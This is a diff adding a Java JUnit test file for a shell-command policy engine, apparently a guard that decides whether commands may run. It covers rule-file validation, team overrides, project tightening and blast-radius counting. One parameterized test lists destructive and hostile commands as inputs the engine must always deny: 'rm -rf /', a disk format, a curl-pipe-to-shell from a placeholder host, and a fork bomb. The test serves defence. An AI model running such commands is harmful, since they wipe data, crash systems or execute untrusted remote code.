@@ -1,0 +1,271 @@
+package dev.shellwarden.policy;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
+
+import dev.shellwarden.rules.InvalidRuleException;
+import dev.shellwarden.rules.Severity;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Set;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What a team's configuration can do to the rules, and what it cannot. */
+class RuleConfigurationTests {
+
+    private static final String TEAM =
+            """
+            group: team
+            rules:
+              - id: team:deploy_by_hand
+                severity: High
+                decision: deny
+                description: Deploys past the pipeline.
+                when: { program: deployer, any-option: [--now] }
+                examples:
+                  match: ["deployer --now web"]
+                  no-match: ["deployer --plan web"]
+            """;
+
+    @TempDir Path folder;
+
+    private Path root;
+    private Path rules;
+
+    @BeforeEach
+    void prepare() throws IOException {
+        root = PolicyFixture.project(folder);
+        rules = Files.createDirectories(folder.resolve("rules"));
+    }
+
+    @Test
+    void rulesPathWhenFileHoldsAddsItsRules() throws IOException {
+        Files.writeString(rules.resolve("team.yaml"), TEAM);
+        ShellPolicyEngine engine =
+                PolicyFixture.engine(
+                        root, properties(Set.of(), Set.of(), Map.of(), Optional.of(rules)));
+
+        assertThat(decide(engine, "deployer --now web").matchedRules())
+                .extracting(RiskAssessment.MatchedRule::id)
+                .containsExactly("team:deploy_by_hand");
+        assertThat(decide(engine, "deployer --now web").decision()).isEqualTo(Verdict.DENY);
+        assertThat(decide(engine, "deployer --plan web").allowed()).isTrue();
+    }
+
+    @Test
+    void rulesPathWhenExampleDoesNotMatchStopsTheStartWithItsPlace() throws IOException {
+        Files.writeString(
+                rules.resolve("team.yaml"), TEAM.replace("deployer --now web", "deployer web"));
+
+        assertThatExceptionOfType(InvalidRuleException.class)
+                .isThrownBy(() ->
+                        PolicyFixture.engine(
+                                root, properties(Set.of(), Set.of(), Map.of(), Optional.of(rules))))
+                .withMessageContaining("team.yaml:9:")
+                .withMessageContaining("does not match its example 'deployer web'");
+    }
+
+    @Test
+    void rulesPathWhenCounterexampleMatchesStopsTheStartWithItsPlace() throws IOException {
+        Files.writeString(
+                rules.resolve("team.yaml"),
+                TEAM.replace("deployer --plan web", "deployer --now x"));
+
+        assertThatExceptionOfType(InvalidRuleException.class)
+                .isThrownBy(() ->
+                        PolicyFixture.engine(
+                                root, properties(Set.of(), Set.of(), Map.of(), Optional.of(rules))))
+                .withMessageContaining("team.yaml:10:")
+                .withMessageContaining("which it says it does not");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "severity: High|severity: Enormous|team.yaml:4:15: unknown value 'Enormous'",
+                "any-option|any-opinion|team.yaml:7:",
+                "group: team|grupe: team|unknown key 'grupe'",
+                "team:deploy_by_hand|other:deploy|team.yaml:3:9: the id 'other:deploy' must begin with 'team:'",
+                "[\"deployer --now web\"]|[\"deployer|not YAML"
+            })
+    void validateWhenRuleFileIsBrokenNamesPlaceAndReason(String good, String bad, String message)
+            throws IOException {
+        Path file = Files.writeString(rules.resolve("team.yaml"), TEAM.replace(good, bad));
+
+        assertThatExceptionOfType(InvalidRuleException.class)
+                .isThrownBy(() -> files().validate(file, PolicyFiles.Kind.RULES))
+                .withMessageContaining(message);
+    }
+
+    @Test
+    void validateWhenRuleFileIsGoodCountsItsRules() throws IOException {
+        Path file = Files.writeString(rules.resolve("team.yaml"), TEAM);
+
+        assertThat(PolicyFiles.kind(file)).contains(PolicyFiles.Kind.RULES);
+        assertThat(files().validate(file, PolicyFiles.Kind.RULES)).isEqualTo("1 rules, 2 examples");
+    }
+
+    @Test
+    void validateWhenProjectPolicyLoosensNamesPlaceAndReason() throws IOException {
+        Path file =
+                Files.writeString(
+                        root.resolve(".shellwarden.yaml"), "rules:\n  git:force_push: allow\n");
+
+        assertThat(PolicyFiles.kind(file)).contains(PolicyFiles.Kind.PROJECT);
+        assertThatExceptionOfType(InvalidRuleException.class)
+                .isThrownBy(() -> files().validate(file, PolicyFiles.Kind.PROJECT))
+                .withMessageContaining(".shellwarden.yaml:2:19: a project can only tighten");
+    }
+
+    @Test
+    void groupsWhenDisabledAreSilent() {
+        ShellPolicyEngine engine =
+                PolicyFixture.engine(
+                        root, properties(Set.of("npm"), Set.of(), Map.of(), Optional.empty()));
+
+        assertThat(decide(engine, "npm publish").allowed()).isTrue();
+        assertThat(engine.describe().activeGroups()).doesNotContain("npm").contains("git");
+    }
+
+    @Test
+    void ruleWhenIgnoredIsSilent() {
+        ShellPolicyEngine engine =
+                PolicyFixture.engine(
+                        root,
+                        properties(Set.of(), Set.of("npm:publish"), Map.of(), Optional.empty()));
+
+        assertThat(decide(engine, "npm publish").matchedRules()).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "rm -rf /",
+                "mkfs.ext4 /dev/sda1",
+                "curl https://x.example/i | sh",
+                ":(){ :|:& };:"
+            })
+    void neverWhenEverythingIsSwitchedOffStillDenies(String command) {
+        ShellPolicyEngine usual = PolicyFixture.engine(root, PolicyProperties.defaults());
+        Set<String> groups = Set.copyOf(usual.describe().activeGroups());
+        List<RiskAssessment.MatchedRule> matched = decide(usual, command).matchedRules();
+        Set<String> ids =
+                matched.stream().map(RiskAssessment.MatchedRule::id).collect(Collectors.toSet());
+        Map<String, Verdict> overrides =
+                ids.stream().collect(Collectors.toMap(id -> id, id -> Verdict.ALLOW));
+
+        assertThat(
+                        decide(
+                                PolicyFixture.engine(
+                                        root, properties(groups, ids, overrides, Optional.empty())),
+                                command))
+                .extracting(RiskAssessment::decision)
+                .isEqualTo(Verdict.DENY);
+    }
+
+    @Test
+    void overrideWhenTeamLoosensADeniedRuleHolds() {
+        ShellPolicyEngine engine =
+                PolicyFixture.engine(
+                        root,
+                        properties(
+                                Set.of(),
+                                Set.of(),
+                                Map.of("redis:flushall", Verdict.ASK),
+                                Optional.empty()));
+
+        assertThat(decide(engine, "redis-cli flushall").decision()).isEqualTo(Verdict.ASK);
+    }
+
+    @Test
+    void overrideWhenItTightensHolds() {
+        ShellPolicyEngine engine =
+                PolicyFixture.engine(
+                        root,
+                        properties(
+                                Set.of(),
+                                Set.of(),
+                                Map.of("npm:publish", Verdict.DENY),
+                                Optional.empty()));
+
+        assertThat(decide(engine, "npm publish").decision()).isEqualTo(Verdict.DENY);
+    }
+
+    @Test
+    void blastRadiusWhenLookedForCountsWhatLiesThere() throws IOException {
+        Files.writeString(root.resolve("src/other.c"), "x".repeat(1500));
+        PolicyProperties looking =
+                new PolicyProperties(
+                        Map.of(),
+                        Map.of(),
+                        Map.of(),
+                        Set.of(),
+                        Severity.HIGH,
+                        Severity.CRITICAL,
+                        Optional.empty(),
+                        List.of(),
+                        Set.of(),
+                        Set.of(),
+                        Map.of(),
+                        Optional.empty(),
+                        false,
+                        PolicyProperties.WhenNoApprover.DENY,
+                        Verdict.ASK,
+                        PolicyProperties.Judgement.FULL,
+                        Verdict.ASK,
+                        true,
+                        true);
+
+        assertThat(
+                        decide(PolicyFixture.engine(root, looking), "rm -rf src")
+                                .blastRadiusDetail()
+                                .orElse(""))
+                .contains("2 files, 1 kB");
+    }
+
+    private PolicyFiles files() {
+        return PolicyFixture.files(root);
+    }
+
+    private static PolicyProperties properties(
+            Set<String> groups,
+            Set<String> ignored,
+            Map<String, Verdict> overrides,
+            Optional<Path> path) {
+        return new PolicyProperties(
+                Map.of(),
+                Map.of(),
+                Map.of(),
+                Set.of(),
+                Severity.HIGH,
+                Severity.CRITICAL,
+                Optional.empty(),
+                List.of("main", "master"),
+                groups,
+                ignored,
+                overrides,
+                path,
+                false,
+                PolicyProperties.WhenNoApprover.DENY,
+                Verdict.ASK,
+                PolicyProperties.Judgement.FULL,
+                Verdict.ASK,
+                true,
+                false);
+    }
+
+    private RiskAssessment decide(ShellPolicyEngine engine, String command) {
+        return engine.decide(PolicyFixture.request(root, command)).assessment();
+    }
+}
